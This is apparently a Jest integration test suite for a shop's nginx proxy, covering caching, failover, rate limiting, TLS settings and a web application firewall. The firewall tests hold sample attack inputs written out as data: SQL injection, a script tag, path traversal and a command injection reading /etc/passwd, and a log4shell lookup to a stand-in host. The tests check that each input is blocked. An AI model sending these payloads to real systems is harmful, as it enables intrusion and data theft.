import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Order, ProblemBody, Product } from '@qc/contracts';
import { Client } from './support/client';
import { Front, NO_NGINX, NO_WAF } from './support/front';
import { ask } from './support/live';
import { RedisServer } from './support/redis-server';
import { Victim } from './support/victim';

if (NO_NGINX) console.warn(`the proxy is not tested: ${NO_NGINX}`);
const describeProxy = NO_NGINX ? describe.skip : describe;
const describeWaf = NO_NGINX || NO_WAF ? describe.skip : describe;

let redis: RedisServer;
let replicas: Victim[];
beforeAll(async () => {
  if (NO_NGINX) return;
  redis = await RedisServer.start();
  const more = { REDIS_URL: redis.url, TRUST_PROXY: '1' };
  const first = await Victim.prepare({ more });
  replicas = [first, await first.twin()];
  await Promise.all(replicas.map((one) => one.start()));
}, 120_000);
afterAll(async () => {
  for (const one of replicas?.toReversed() ?? []) await one.end();
  await redis?.kill();
}, 60_000);

const urls = (): string[] => replicas.map(({ url }) => url);

async function tea(url: string): Promise<Product> {
  const admin = await new Client(url).signIn('admin@demo.test', 'Demo-pass-123');
  return (await admin.post<Product>('/products', { name: 'Tea', category: 'Tests', price: 1000, stock: 1000 })).body;
}

/** Status and body of an answer to a request that `fetch` would not send. */
function send(port: number, options: object, body?: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const request = httpRequest({ host: '127.0.0.1', port, ...options }, (response) => {
      let text = '';
      response.on('data', (chunk) => (text += String(chunk)));
      response.on('end', () => resolve({ status: response.statusCode!, body: text }));
    });
    request.on('error', reject);
    request.end(body);
  });
}

describeProxy('the proxy before two replicas', () => {
  let front: Front;
  let customer: Client;
  let product: Product;
  beforeAll(async () => {
    front = await Front.before(urls());
    customer = await new Client(front.url).signIn('customer@demo.test', 'Demo-pass-123');
    product = await tea(front.url);
  }, 60_000);
  afterAll(() => front?.stop());

  it('serves the app: its pages never from a cache, what has a hash in its name for a year, deep links as the app', async () => {
    const page = await fetch(`${front.url}/orders/some/where`);
    expect([page.status, page.headers.get('cache-control')]).toEqual([200, 'no-cache']);
    const html = await page.text();
    const [, script] = /src="([^"]+-[\w-]{8}\.js)"/.exec(html)!;
    const asset = await fetch(`${front.url}/${script}`);
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect((await fetch(`${front.url}/missing-ABCDEFGH.js`)).status).toBe(404);
    expect(page.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(page.headers.get('server')).toBe('nginx');
  });

  it('keeps what is for operations to itself', async () => {
    for (const path of ['/api/metrics', '/api/health/ready', '/api/health/live'])
      expect([path, (await fetch(front.url + path)).status]).toEqual([path, 404]);
    expect((await fetch(`${front.url}/healthz`)).status).toBe(200);
  });

  it.each([['websocket'], ['polling']] as const)(
    'carries %s clients, whichever replica makes the event',
    async (transport) => {
      const order = (await customer.placeOrder([{ productId: product.id, quantity: 1 }])).body;
      const socket = await customer.connect(undefined, { transports: [transport] });
      await ask(socket, 'joinOrder', { orderId: order.id });
      for (const url of urls()) {
        const there = new Client(url);
        there.token = customer.token!;
        const { id } = (await there.placeOrder([{ productId: product.id, quantity: 1 }])).body;
        const told = new Promise((resolve) =>
          socket.on('orderUpdated', ({ orderId, type }) => orderId === id && type === 'cancelled' && resolve(true)),
        );
        await there.post(`/orders/${id}/cancel`);
        expect(await told).toBe(true);
      }
      socket.disconnect();
    },
  );

  it('tells the API who really asked, whatever the client claims', async () => {
    const before = (await readFile(front.accessLog, 'utf8')).length;
    const path = '/api/products?limit=1&category=secret-words';
    const headers = { 'X-Forwarded-For': '8.8.8.8', 'X-Real-IP': '8.8.8.8', 'X-Request-Id': 'my-own-id' };
    const answer = await fetch(front.url + path, { headers });
    expect(answer.headers.get('x-request-id')).toBe('my-own-id');
    const log = (await readFile(front.accessLog, 'utf8')).slice(before);
    const line = JSON.parse(log.split('\n').find((one) => one.includes('my-own-id'))!) as Record<string, unknown>;
    expect(line).toMatchObject({ client: '127.0.0.1', status: 200, path: '/api/products', requestId: 'my-own-id' });
    expect(log).not.toContain('secret-words');
  });

  it('refuses a body that is too large, and lets go of one that does not come', async () => {
    const large = await fetch(`${front.url}/api/orders`, { method: 'POST', body: 'x'.repeat(1_100_000) });
    expect([large.status, ((await large.json()) as ProblemBody).code]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
    const slow = connect(front.port, '127.0.0.1');
    slow.write('POST /api/orders HTTP/1.1\r\nHost: shop\r\nContent-Length: 10\r\n\r\nab');
    const began = Date.now();
    await new Promise((resolve) => slow.once('close', resolve).resume());
    expect(Date.now() - began).toBeLessThan(15_000);
  });

  it('sends a command to one replica only, and gives nobody a failed page while one is killed and another joins', async () => {
    const answers: number[] = [];
    let over = false;
    const reading = (async () => {
      while (!over) {
        answers.push((await fetch(`${front.url}/api/products?limit=1`)).status);
        await pause(25);
      }
    })();
    await replicas[0]!.kill();
    while (answers.length < 60) await pause(10);
    await replicas[0]!.start();
    front.reload();
    const soFar = answers.length;
    while (answers.length < soFar + 60) await pause(10);
    over = true;
    await reading;
    expect(new Set(answers)).toEqual(new Set([200]));
  });

  it('says that nothing answers behind it as the contract says it', async () => {
    const alone = await Front.before(['http://127.0.0.1:9']);
    const answer = await fetch(`${alone.url}/api/products`);
    expect([answer.status, answer.headers.get('retry-after')]).toEqual([503, '2']);
    expect(await answer.json()).toMatchObject({ code: 'UNAVAILABLE', status: 503 });
    await alone.stop();
  });

  it('slows somebody who tries passwords', async () => {
    const alone = await Front.before(urls());
    const tries = await Promise.all(
      Array.from({ length: 40 }, () =>
        new Client(alone.url).post<ProblemBody>('/auth/login', { email: 'a@b.example', password: 'wrong' }),
      ),
    );
    const slowed = tries.filter(({ status }) => status === 429);
    expect(slowed.length).toBeGreaterThan(10);
    expect(slowed[0]!.body.code).toBe('RATE_LIMITED');
    expect(slowed[0]!.headers.get('retry-after')).toBeTruthy();
    await alone.stop();
  });
});

describeProxy('the proxy with certificates', () => {
  let folder: string;
  let front: Front;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'qc-certificates-'));
    const [key, certificate] = ['privkey.pem', 'fullchain.pem'].map((name) => join(folder, name));
    const subject = ['-subj', '/CN=shop.test', '-addext', 'subjectAltName=DNS:shop.test'];
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'rsa:2048',
        '-nodes',
        '-days',
        '2',
        ...subject,
        '-keyout',
        key!,
        '-out',
        certificate!,
      ],
      { stdio: 'ignore' },
    );
    front = await Front.before(urls(), { CERTIFICATES: folder, SERVER_NAME: 'shop.test' });
  }, 60_000);
  afterAll(async () => {
    await front?.stop();
    await rm(folder, { recursive: true, force: true });
  });

  it('speaks HTTP/2 over TLS 1.3, and asks browsers never to come without', async () => {
    const session = connectHttp2(`https://127.0.0.1:${front.securePort}`, {
      servername: 'shop.test',
      rejectUnauthorized: false,
    });
    const stream = session.request({ ':path': '/', ':authority': 'shop.test' });
    const headers = await new Promise<Record<string, unknown>>((resolve) => stream.once('response', resolve));
    expect(headers[':status']).toBe(200);
    expect(headers['strict-transport-security']).toContain('max-age=63072000');
    session.close();
  });

  it('refuses TLS 1.1', async () => {
    const old = connectTls({
      port: front.securePort,
      servername: 'shop.test',
      rejectUnauthorized: false,
      minVersion: 'TLSv1',
      maxVersion: 'TLSv1.1',
      ciphers: 'DEFAULT@SECLEVEL=0',
    });
    const outcome = await new Promise((resolve) => {
      old.once('secureConnect', () => resolve('connected'));
      old.once('error', () => resolve('refused'));
    });
    expect(outcome).toBe('refused');
    old.destroy();
  });

  it('sends plain visitors to TLS, and knows no other name', async () => {
    const plain = await send(front.port, { path: '/orders', headers: { Host: 'shop.test' } });
    expect(plain.status).toBe(308);
    expect((await send(front.port, { path: '/', headers: { Host: 'evil.test' } })).status).toBe(421);
  });
});

describeWaf('the web application firewall', () => {
  let front: Front;
  beforeAll(async () => {
    front = await Front.before(urls(), { WAF: 'on' });
  }, 60_000);
  afterAll(() => front?.stop());

  it.each([
    ['SQL injection', '/api/products?q=1%27%20OR%20%271%27=%271%27%20--%20'],
    ['a script', '/api/products?q=%3Cscript%3Ealert(1)%3C/script%3E'],
    ['a path to the passwords', '/api/products?q=../../../../etc/passwd'],
    ['a command', '/api/products?q=;cat%20/etc/passwd'],
    ['log4shell', '/api/products?q=$%7Bjndi:ldap://evil.test/a%7D'],
  ])('blocks %s', async (_what, path) => {
    expect((await send(front.port, { path })).status).toBe(403);
  });

  it('blocks a scanner by its name', async () => {
    expect((await send(front.port, { path: '/api/products', headers: { 'User-Agent': 'sqlmap/1.7' } })).status).toBe(
      403,
    );
  });

  it('lets a whole order through, with the words that people write', async () => {
    const customer = await new Client(front.url).signIn('customer@demo.test', 'Demo-pass-123');
    const product = await tea(front.url);
    const partner = await new Client(front.url).signIn('partner@demo.test', 'Demo-pass-123');
    await partner.put('/delivery/availability', { available: true });
    for (const note of [
      "Don't ring, it's the baby's nap; leave by the door",
      'घंटी न बजाएँ',
      '¿Puede llamar al timbre? Sí, por favor: 2º izq.',
    ]) {
      const placed = await customer.placeOrder([{ productId: product.id, quantity: 1 }], { note });
      expect(placed.body).toMatchObject({ status: expect.stringMatching(/./), note });
      const id = placed.body.id;
      expect((await partner.accept(id)).status).toBe(200);
      for (const status of ['picked_up', 'in_transit', 'delivered'])
        expect([status, (await partner.move(id, status)).status]).toEqual([status, 200]);
      expect((await customer.post<Order>(`/orders/${id}/rating`, { score: 5, comment: note })).status).toBe(200);
    }
  });
});
